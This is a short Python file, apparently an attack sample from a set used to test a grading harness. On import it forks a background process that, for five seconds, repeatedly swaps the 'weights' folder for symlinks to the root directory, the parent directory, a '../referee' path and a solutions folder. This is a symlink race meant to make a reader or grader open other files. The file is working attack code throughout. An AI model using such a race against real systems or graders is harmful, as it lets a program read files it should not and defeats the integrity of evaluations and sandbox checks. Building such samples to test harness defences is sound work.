"""A process of its own goes on exchanging the folder of weights for links, also while it is read.

class: weights
lab: handed
where: start
"""

import os

if os.fork() == 0:
    import time

    links = ["/proc/self/cwd", "/", "..", "../referee", "../../solutions/handed/weights"]
    end = time.time() + 5
    while time.time() < end:
        for link in links:
            try:
                os.rename("weights", "kept")
                os.symlink(link, "weights")
                os.unlink("weights")
                os.rename("kept", "weights")
            except OSError:
                pass
    os._exit(0)
